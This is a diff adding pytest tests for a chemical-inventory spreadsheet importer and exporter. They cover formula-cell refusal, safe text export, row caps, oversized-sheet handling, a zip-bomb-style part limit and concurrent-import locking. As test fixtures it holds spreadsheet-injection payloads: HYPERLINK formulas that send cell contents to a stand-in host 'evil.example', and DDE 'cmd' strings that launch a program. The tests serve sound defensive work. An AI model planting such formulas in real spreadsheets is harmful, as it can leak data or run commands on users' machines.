@@ -246,3 +246,128 @@ def test_huge_file_refused_before_parsing(db: Session, setup: tuple[Actor, Facil
         import_inventory(db, actor, facility.id, big)
     assert "50 MB" in err.value.message and str(safety.MAX_FILE_BYTES // 1024 // 1024) in err.value.message
     assert count_items(db) == 0
+
+
+# --- spreadsheet safety: formulas, caps, one import at a time -------------------------------------------------
+@pytest.mark.parametrize("column, value", [
+    ("CommonName", '=HYPERLINK("http://evil.example/"&A2,"Open SDS")'),
+    ("ChemicalLocation", "@SUM(1+1)*cmd|' /C calc'!A0"),
+    ("ChemicalName", "+HYPERLINK(\"http://evil.example\")"),
+    ("HC1Name", "-2+3+cmd|' /C calc'!A0"),
+])
+def test_text_cells_that_start_like_a_formula_are_refused(db: Session, setup: tuple[Actor, Facility], column,
+                                                         value) -> None:  # type: ignore[no-untyped-def]
+    actor, facility = setup
+    wb = openpyxl.load_workbook(io.BytesIO(workbook([row(), row()])))
+    cell = wb.active.cell(row=5, column=HEADERS.index(column) + 1)
+    cell.value = value
+    cell.data_type = "s"  # typed as text (a leading apostrophe in Excel, or a text-formatted cell)
+    buf = io.BytesIO()
+    wb.save(buf)
+    result = import_inventory(db, actor, facility.id, buf.getvalue())
+    assert not result.stored and count_items(db) == 0
+    [error] = result.errors
+    assert (error.row, error.column) == (5, column) and "formula" in error.reason and value[0] in error.reason
+
+
+def test_a_dash_or_a_signed_number_in_a_text_cell_is_fine(db: Session, setup: tuple[Actor, Facility]) -> None:
+    actor, facility = setup
+    result = import_inventory(db, actor, facility.id, workbook([row(MapNumber="-", GridNumber="-5")]))
+    assert result.stored and result.imported == 1
+
+
+def test_every_text_is_exported_as_text_never_as_a_live_formula(db: Session, setup: tuple[Actor, Facility]) -> None:
+    """A name that came in through the chat (or an older import) and starts with "=" stays text in Excel."""
+    actor, facility = setup
+    assert import_inventory(db, actor, facility.id, workbook([row()])).stored
+    item = db.execute(select(InventoryItem)).scalar_one()
+    item.common_name = '=HYPERLINK("http://evil.example/"&A2,"Open SDS")'
+    item.location = "@cmd"
+    db.commit()
+    [exported] = export_inventory(db, actor, facility.id)
+    sheet_xml = zipfile.ZipFile(io.BytesIO(exported.content)).read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet_xml and "HYPERLINK" in sheet_xml  # stored as a string, not a formula
+    cells = {c.value: c for r in openpyxl.load_workbook(io.BytesIO(exported.content)).worksheets[0].iter_rows()
+             for c in r if isinstance(c.value, str)}
+    danger = cells['=HYPERLINK("http://evil.example/"&A2,"Open SDS")']
+    assert danger.data_type == "s" and danger.quotePrefix  # Excel keeps it text even after an edit
+    assert cells["@cmd"].quotePrefix and cells["Base oil"].data_type == "s" and not cells["Base oil"].quotePrefix
+
+
+def test_the_row_cap_is_stated_and_enforced(db: Session, setup: tuple[Actor, Facility], monkeypatch) -> None:  # type: ignore[no-untyped-def]
+    from bot.excel import reader
+
+    actor, facility = setup
+    monkeypatch.setattr(reader, "MAX_IMPORT_ROWS", 5)
+    with pytest.raises(ExcelFileError) as too_many:
+        import_inventory(db, actor, facility.id, workbook([row(CommonName=f"M{i}") for i in range(6)]))
+    assert "more than 5 materials" in too_many.value.message and "Append" in too_many.value.message
+    assert import_inventory(db, actor, facility.id, workbook([row(CommonName=f"M{i}") for i in range(5)])).stored
+    assert "10,000 materials" in safety.LIMITS_TEXT
+
+
+def test_a_sheet_claiming_a_million_rows_and_columns_is_read_in_bounded_time(db: Session,
+                                                                            setup: tuple[Actor, Facility]) -> None:
+    """Cells far right of the headings and far below the data are never read (formatting often reaches them)."""
+    import time
+
+    actor, facility = setup
+    wb = openpyxl.Workbook()
+    ws = wb.active
+    ws.append(HEADERS)
+    ws.append([row().get(h) for h in HEADERS])
+    ws.cell(row=2, column=16000, value="far right")
+    for r in range(3, 3 + 2500):  # a long run of empty (formatted) rows, then a stray value
+        ws.cell(row=r, column=1).number_format = "0.00"
+    ws.cell(row=3000, column=1, value="stray")
+    buf = io.BytesIO()
+    wb.save(buf)
+    started = time.perf_counter()
+    result = import_inventory(db, actor, facility.id, buf.getvalue())
+    assert result.stored and result.imported == 1
+    assert time.perf_counter() - started < 20
+
+
+def test_a_part_loaded_whole_may_not_be_huge(db: Session, setup: tuple[Actor, Facility]) -> None:
+    import os
+
+    actor, facility = setup
+    buf = io.BytesIO(workbook([row()]))
+    block = os.urandom(2000) + b"\0" * 98000  # compresses about 50 to 1: not a zip bomb by its ratio
+    with zipfile.ZipFile(buf, "a", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("xl/sharedStrings2.xml", block * (safety.MAX_LOADED_PART_BYTES // len(block) + 1))
+    assert len(buf.getvalue()) < safety.MAX_FILE_BYTES
+    with pytest.raises(ExcelFileError) as refused:
+        import_inventory(db, actor, facility.id, buf.getvalue())
+    assert "zip bomb" in refused.value.message
+
+
+def test_two_imports_of_one_facility_at_once_do_not_interleave(db_url: str, setup: tuple[Actor, Facility]) -> None:
+    """PostgreSQL: the second import finds the Draft locked and is told to wait (nothing of it is stored)."""
+    from bot.db import new_session
+    from bot.errors import Conflict
+
+    actor, facility = setup
+    if db_url.startswith("sqlite"):
+        pytest.skip("SQLite runs one writer at a time: the second import waits for the first")
+    first, second = new_session(), new_session()
+    try:
+        assert import_inventory(first, actor, facility.id, workbook([row(CommonName="Old")])).stored
+        first.commit()  # the Draft exists
+        assert import_inventory(first, actor, facility.id, workbook([row(CommonName="First")]), mode="replace").stored
+        with pytest.raises(Conflict) as running:
+            import_inventory(second, actor, facility.id, workbook([row(CommonName="Second")]), mode="append")
+        assert "being imported right now" in running.value.message
+        second.rollback()
+        first.commit()
+        assert import_inventory(second, actor, facility.id, workbook([row(CommonName="Second")]), mode="append").stored
+        second.commit()
+    finally:
+        first.close()
+        second.close()
+    check = new_session()
+    try:
+        assert [i.common_name for i in check.execute(select(InventoryItem).order_by(InventoryItem.position)).scalars()] \
+            == ["First", "Second"]
+    finally:
+        check.close()
